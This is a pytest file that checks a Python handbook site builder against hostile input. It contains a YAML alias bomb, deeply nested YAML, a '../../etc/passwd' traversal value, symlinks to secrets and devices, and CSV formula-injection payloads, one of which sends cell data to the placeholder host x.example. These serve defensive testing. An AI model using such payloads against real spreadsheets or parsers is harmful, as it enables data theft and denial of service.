"""Hostile input and a hostile filesystem (issue 15): every case ends with exit status 2,
a Chinese message naming the file (and line where there is one), no traceback, nothing
read from outside the project, and the last good site unchanged.

Most cases run the real ``python -m handbook check`` on a copy of data/; the site swap is
exercised through ``cli.build`` with the MkDocs step replaced by a small script, so no
test here needs a full site build (the hostile-data build is in test_hostile_data.py).
"""

from __future__ import annotations

import csv
import errno
import hashlib
import io
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import time
from dataclasses import replace
from pathlib import Path

import pytest

from fixtures.project import copy_project, tree_digest
from handbook import cli, sitedir
from handbook.export import to_csv, to_json
from handbook.files import MAX_DATA_BYTES

ROOT = Path(__file__).resolve().parent.parent
YIWU = "data/documents/yiwu.yml"


@pytest.fixture
def root(tmp_path) -> Path:
    """A writable copy of data/ (the loader needs nothing else)."""
    shutil.copytree(ROOT / "data", tmp_path / "data")
    for path in (tmp_path / "data").rglob("*"):
        path.chmod(0o644 if path.is_file() else 0o755)
    return tmp_path


def run(*args: str, timeout: float = 120) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "handbook", *args],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=timeout,
        env=dict(os.environ, HANDBOOK_PDF="off"),
    )


def check(root: Path, timeout: float = 120) -> str:
    """Run check on a broken copy: exit 2, no traceback; returns everything it printed."""
    result = run("check", "--root", str(root), timeout=timeout)
    out = result.stdout + result.stderr
    assert result.returncode == 2, out[-3000:]
    assert "Traceback" not in out, out[-3000:]
    return out


def line_of(path: Path, needle: str) -> int:
    lines = path.read_text("utf-8").splitlines()
    found = [i + 1 for i, line in enumerate(lines) if needle in line]
    assert len(found) == 1, (needle, found)
    return found[0]


def error_lines(out: str, file: str) -> list[str]:
    return [line for line in out.splitlines() if line.startswith(file + ":")]


def digest(folder: Path) -> dict[str, str]:
    return {
        p.relative_to(folder).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


# -- YAML bounds ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "terms: " + "[" * 30000 + "\n",
        "terms:\n" + "- " * 100000 + "x\n",
        "terms: " + "[" * 100000 + "]" * 100000 + "\n",
    ],
    ids=["unclosed", "block", "closed"],
)
def test_deep_nesting_is_an_error_with_a_line_not_a_signal(root, text):
    (root / "data/glossary.yml").write_text(text, "utf-8")
    out = check(root)
    [message] = [line for line in error_lines(out, "data/glossary.yml") if "嵌套" in line]
    assert re.match(r"data/glossary\.yml:[12]:\d+: 错误: YAML 嵌套超过 \d+ 层", message), message


def test_oversized_data_file_is_refused_before_parsing(root):
    path = root / YIWU
    text = path.read_text("utf-8")
    path.write_text(
        text.replace("notes:\n", "notes:\n  - " + "很长的说明" * (50 * 1024 * 1024 // 15) + "\n", 1), "utf-8"
    )
    start = time.monotonic()
    out = check(root, timeout=60)
    assert time.monotonic() - start < 30
    [message] = error_lines(out, YIWU)
    assert "太大" in message and "MB" in message


def test_one_message_per_alias_bomb(root):
    bomb = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(8)
    )
    (root / "data/themes.yml").write_text(bomb, "utf-8")
    out = check(root)
    messages = error_lines(out, "data/themes.yml")
    assert len(messages) == 1 and "别名" in messages[0], messages
    assert messages[0].startswith(f"data/themes.yml:{line_of(root / 'data/themes.yml', 'a: &a')}:")


# -- source files -----------------------------------------------------------------------


def source_line(root: Path) -> int:
    return line_of(root / YIWU, "source: yiwu.txt")


def test_symlink_out_of_sources_is_not_read(root, tmp_path):
    secret = tmp_path / "secret.txt"
    token = "SECRET-TOKEN-3f9a1c"
    secret.write_text(f"{token}\n" * 50, "utf-8")
    source = root / "data/sources/yiwu.txt"
    source.unlink()
    source.symlink_to(secret)
    out = check(root)
    assert token not in out
    [message] = [m for m in error_lines(out, YIWU) if "yiwu.txt" in m]
    assert message.startswith(f"{YIWU}:{source_line(root)}:") and "符号链接" in message


def test_symlink_inside_sources_is_read(root):
    source = root / "data/sources/yiwu.txt"
    (root / "data/sources/yiwu-original.txt").write_bytes(source.read_bytes())
    source.unlink()
    source.symlink_to("yiwu-original.txt")
    result = run("check", "--root", str(root))
    assert result.returncode == 0, result.stdout[-3000:]


@pytest.mark.parametrize("kind", ["dev-zero", "fifo", "directory"])
def test_special_files_are_refused_without_hanging(root, kind):
    source = root / "data/sources/yiwu.txt"
    source.unlink()
    if kind == "dev-zero":
        # inside data/sources a link to a device is as bad as one outside it
        os.symlink("/dev/zero", root / "data/sources/zero")
        source.symlink_to("zero")
    elif kind == "fifo":
        os.mkfifo(root / "data/sources/pipe")
        source.symlink_to("pipe")
    else:
        source.mkdir()
    out = check(root, timeout=60)
    [message] = [m for m in error_lines(out, YIWU) if "yiwu.txt" in m]
    # /dev/zero lies outside data/sources/: refused as such, before its type is even looked at
    expected = "指向 data/sources/ 以外的符号链接" if kind == "dev-zero" else "不是普通文件"
    assert message.startswith(f"{YIWU}:{source_line(root)}:") and expected in message


def test_data_file_linked_to_a_device_is_refused(root):
    path = root / "data/measures.yml"
    path.unlink()
    path.symlink_to("/dev/zero")
    out = check(root, timeout=60)
    [message] = error_lines(out, "data/measures.yml")
    assert "data/" in message and ("符号链接" in message or "不是普通文件" in message)


def test_oversized_source_is_refused(root):
    source = root / "data/sources/yiwu.txt"
    source.write_bytes(source.read_bytes() * (MAX_DATA_BYTES // source.stat().st_size + 1))
    out = check(root, timeout=60)
    [message] = [m for m in error_lines(out, YIWU) if "yiwu.txt" in m]
    assert "太大" in message


def test_path_traversal_message_is_about_file_names(root):
    path = root / YIWU
    path.write_text(path.read_text("utf-8").replace("source: yiwu.txt", "source: ../../etc/passwd"), "utf-8")
    out = check(root)
    [message] = [m for m in error_lines(out, YIWU) if "source" in m]
    assert "文件名" in message and "日期" not in message and "a14-i3" not in message


# -- ids --------------------------------------------------------------------------------


def test_document_id_index_is_reserved(root):
    new = root / "data/documents/index.yml"
    text = (root / YIWU).read_text("utf-8")
    (root / YIWU).unlink()
    new.write_text(text.replace("\nid: yiwu\n", "\nid: index\n", 1), "utf-8")
    out = check(root)
    line = line_of(new, "id: index")
    assert any(
        m.startswith(f"data/documents/index.yml:{line}:") and "保留字" in m
        for m in error_lines(out, "data/documents/index.yml")
    ), out


def test_jurisdiction_id_index_is_reserved(root):
    path = root / YIWU
    text = path.read_text("utf-8")
    path.write_text(text.replace("jurisdiction:\n  id: yiwu\n", "jurisdiction:\n  id: index\n", 1), "utf-8")
    out = check(root)
    line = line_of(path, "  id: index")
    assert any(m.startswith(f"{YIWU}:{line}:") and "地区标识 `index` 是保留字" in m for m in error_lines(out, YIWU)), (
        out
    )


def test_role_id_all_is_reserved(root):
    path = root / "data/roles.yml"
    path.write_text(path.read_text("utf-8").replace("  - id: member\n", "  - id: all\n", 1), "utf-8")
    out = check(root)
    line = line_of(path, "- id: all")
    assert any(
        m.startswith(f"data/roles.yml:{line}:") and "角色标识 `all` 是保留字" in m
        for m in error_lines(out, "data/roles.yml")
    ), out


def test_renamed_copy_of_a_document_is_rejected(root):
    copy = root / "data/documents/yiwu-copy.yml"
    copy.write_text((root / YIWU).read_text("utf-8").replace("\nid: yiwu\n", "\nid: yiwu-copy\n", 1), "utf-8")
    out = check(root)
    messages = [m for m in out.splitlines() if "完全相同" in m]
    assert len(messages) == 1, out[-3000:]
    # reported on one of the two files, naming the other
    here, other = (
        ("yiwu-copy", "yiwu") if messages[0].startswith("data/documents/yiwu-copy.yml") else ("yiwu", "yiwu-copy")
    )
    path = root / f"data/documents/{here}.yml"
    assert messages[0].startswith(f"data/documents/{here}.yml:{line_of(path, 'source: yiwu.txt')}:")
    assert f"`{other}`" in messages[0]


# -- CSV --------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://x.example/?x="&A1,"点我")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def test_csv_cells_a_spreadsheet_would_evaluate_are_neutralised(book):
    doc = next(iter(book.documents.values()))
    clauses = list(doc.clauses)
    for i, formula in enumerate(FORMULAS):
        clauses[i] = replace(clauses[i], title=formula, locator=formula if i % 2 else clauses[i].locator)
    hostile = replace(book, documents={**book.documents, doc.id: replace(doc, clauses=tuple(clauses))})
    rows = list(csv.reader(io.StringIO(to_csv(hostile).lstrip("\ufeff"), newline="")))
    titles = {row[0]: row[rows[0].index("title")] for row in rows[1:]}
    for clause, formula in zip(clauses, FORMULAS):
        assert titles[clause.id] == "'" + formula
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    records = {c["id"]: c for c in json.loads(to_json(hostile))["clauses"]}
    assert [records[c.id]["title"] for c in clauses[: len(FORMULAS)]] == FORMULAS  # JSON keeps the exact text


def test_downloads_page_explains_the_apostrophe():
    text = (ROOT / "templates/downloads.md.j2").read_text("utf-8")
    assert "单引号" in text and "公式" in text


# -- the output folder ------------------------------------------------------------------


@pytest.fixture
def project(tmp_path) -> Path:
    root = copy_project(tmp_path / "project")
    site = root / "site"
    (site / "sub").mkdir(parents=True)
    (site / "index.html").write_text("old site", "utf-8")
    (site / "sub/page.html").write_text("old page", "utf-8")
    return root


@pytest.mark.parametrize("target", ["data", "docs", ".", "..", "data/site", "handbook", "/"])
def test_protected_output_folders_are_refused(project, target):
    before = tree_digest(project)
    result = subprocess.run(
        [sys.executable, "-m", "handbook", "build", "--site-dir", target],
        cwd=project,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 2, result.stdout[-2000:] + result.stderr[-2000:]
    assert "输出目录" in result.stderr and "Traceback" not in result.stderr
    assert tree_digest(project) == before


def fake_mkdocs(script: str):
    """A stand-in for the MkDocs step: ``script`` runs with the temporary site folder as argv[1]."""
    return lambda temp: [sys.executable, "-c", script, str(temp)]


WRITE_SITE = "import sys, pathlib; p = pathlib.Path(sys.argv[1]); (p / 'index.html').write_text('new site')"
DISK_FULL = (
    "import sys, pathlib; p = pathlib.Path(sys.argv[1]); (p / 'half.html').write_text('half');"
    "raise OSError(28, 'No space left on device', str(p / 'next.html'))"
)


def build(project: Path, monkeypatch, script: str, capsys) -> tuple[int, str]:
    monkeypatch.setattr(cli, "mkdocs_command", fake_mkdocs(script))
    monkeypatch.setenv("HANDBOOK_PDF", "off")
    code = cli.build(project, Path("site"), offline=False)
    captured = capsys.readouterr()
    return code, captured.out + captured.err


def leftovers(project: Path) -> list[str]:
    return sorted(
        p.name for p in project.iterdir() if p.name.startswith(".build-") and p.is_dir() or p.name == "site.old"
    )


def test_swap_replaces_the_site_and_cleans_leftovers(project, monkeypatch, capsys):
    (project / ".build-interrupted/assets").mkdir(parents=True)
    (project / ".build-interrupted/assets/x.css").write_text("x")
    (project / ".build-interrupted/assets").chmod(0o555)  # an "immutable" subfolder
    (project / "site.old").mkdir()
    code, out = build(project, monkeypatch, WRITE_SITE, capsys)
    assert code == 0, out
    assert (project / "site/index.html").read_text() == "new site"
    assert leftovers(project) == []
    assert "上次中断的构建" in out


def test_disk_full_is_explained_and_the_old_site_kept(project, monkeypatch, capsys):
    before = digest(project / "site")
    code, out = build(project, monkeypatch, DISK_FULL, capsys)
    assert code == 2
    assert "磁盘空间不足" in out and "Traceback" not in out
    assert digest(project / "site") == before
    assert leftovers(project) == []


@pytest.mark.parametrize("code_", [errno.EACCES, errno.ENOSPC, errno.EBUSY])
def test_failed_swap_is_explained_and_rolled_back(project, monkeypatch, capsys, code_):
    before = digest(project / "site")
    real_rename = Path.rename

    def rename(self, target):
        if self.name.startswith(".build-") and Path(target).name == "site":  # the new site cannot be moved in
            raise OSError(code_, os.strerror(code_))
        return real_rename(self, target)

    monkeypatch.setattr(Path, "rename", rename)
    code, out = build(project, monkeypatch, WRITE_SITE, capsys)
    assert code == 2 and "Traceback" not in out
    assert {errno.EACCES: "没有权限", errno.ENOSPC: "磁盘空间不足", errno.EBUSY: "占用"}[code_] in out
    assert digest(project / "site") == before
    assert leftovers(project) == []


def test_undeletable_old_site_does_not_break_the_next_build(project, monkeypatch, capsys):
    real_rmtree = shutil.rmtree
    calls = []

    def rmtree(path, *args, **kwargs):
        if Path(path).name == "site.old" and not calls:
            calls.append(path)
            raise OSError(errno.EACCES, "Permission denied")
        return real_rmtree(path, *args, **kwargs)

    monkeypatch.setattr(shutil, "rmtree", rmtree)
    code, out = build(project, monkeypatch, WRITE_SITE, capsys)
    assert code == 0 and calls and (project / "site.old").exists()
    code, out = build(project, monkeypatch, WRITE_SITE.replace("new site", "newer site"), capsys)
    assert code == 0, out
    assert (project / "site/index.html").read_text() == "newer site" and leftovers(project) == []


def test_second_build_waits_for_the_lock(tmp_path, capsys):
    site = tmp_path / "site"
    holder = subprocess.Popen(
        [
            sys.executable,
            "-c",
            (
                "import fcntl, os, sys, time; fd = os.open(sys.argv[1], os.O_RDONLY); fcntl.flock(fd, fcntl.LOCK_EX);"
                "print('held', flush=True); time.sleep(2)"
            ),
            str(tmp_path),
        ],
        stdout=subprocess.PIPE,
        text=True,
    )
    assert holder.stdout.readline().strip() == "held"
    start = time.monotonic()
    with sitedir.exclusive(site):
        waited = time.monotonic() - start
    holder.wait(timeout=10)
    assert waited > 0.5
    assert "另一个构建" in capsys.readouterr().err


def test_disk_full_in_the_generator_output_is_one_sentence(tmp_path, capsys):
    code = sitedir.run(fake_mkdocs(DISK_FULL)(tmp_path), tmp_path, dict(os.environ), tmp_path / "site")
    captured = capsys.readouterr()
    assert code != 0
    assert "Traceback" not in captured.out + captured.err and "磁盘空间不足" in captured.err


# -- interrupted builds (real MkDocs, stopped early) --------------------------------------


def start_build(project: Path) -> tuple[subprocess.Popen, Path]:
    proc = subprocess.Popen(
        [sys.executable, "-m", "handbook", "build"],
        cwd=project,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
        env=dict(os.environ, HANDBOOK_PDF="off"),
        # As typed in a terminal: a test run started in the background (`cmd &` in a script)
        # ignores SIGINT, its children inherit that, and Python then never sees Ctrl-C.
        preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL),
    )
    deadline = time.monotonic() + 90
    while time.monotonic() < deadline:
        temps = [p for p in project.glob(".build-*") if p.is_dir()]
        if temps and any(temps[0].iterdir()):  # MkDocs has started writing
            return proc, temps[0]
        assert proc.poll() is None, proc.stdout.read()
        time.sleep(0.2)
    proc.kill()
    pytest.fail("the build never started writing")


def processes_using(path: Path) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if str(path).encode() in (entry / "cmdline").read_bytes():
                    found.append(int(entry.name))
            except OSError:
                pass
    return found


@pytest.mark.slow
def test_interrupted_builds_leave_no_process_and_no_folder(project):
    before = digest(project / "site")
    proc, temp = start_build(project)  # Ctrl-C: the folder goes at once
    proc.send_signal(signal.SIGINT)
    assert proc.wait(timeout=60) == 130
    assert not temp.exists() and digest(project / "site") == before

    proc, temp = start_build(project)  # kill -9: the generator dies too; the next build cleans up
    proc.kill()
    proc.wait(timeout=10)
    deadline = time.monotonic() + 20
    while processes_using(temp) and time.monotonic() < deadline:
        time.sleep(0.2)
    assert processes_using(temp) == []
    assert digest(project / "site") == before
    with sitedir.exclusive(project / "site"):
        sitedir.clean_leftovers(project / "site")
    assert leftovers(project) == []


# -- serve --------------------------------------------------------------------------------


def test_serve_with_bad_data_exits_2(project):
    path = project / YIWU
    path.write_text(path.read_text("utf-8").replace("\nsource: yiwu.txt", "\nsource: nosuch.txt"), "utf-8")
    from test_serve import free_port

    result = subprocess.run(
        [sys.executable, "-m", "mkdocs", "serve", "--dev-addr", f"127.0.0.1:{free_port()}"],
        cwd=project,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 2, result.stdout[-2000:] + result.stderr[-2000:]
    assert "nosuch.txt" in result.stderr and "Traceback" not in result.stderr


@pytest.mark.slow
def test_broken_template_under_serve_answers_with_an_error_page(project):
    from test_serve import Server

    template = project / "templates/roles.md.j2"
    template.write_text(template.read_text("utf-8") + "\n{% for x in %}\n", "utf-8")
    line = len(template.read_text("utf-8").splitlines())
    server = Server(project)
    try:
        server.wait_for_output("Serving on", 240)
        body = server.wait_for_page("roles/", "模板错误", 60)
        assert "roles.md.j2" in body
        assert f"templates/roles.md.j2:{line}: 模板错误" in server.output
        assert server.get("")[0] == 200  # other pages answer too
        assert "Traceback" not in server.output
    finally:
        server.stop()
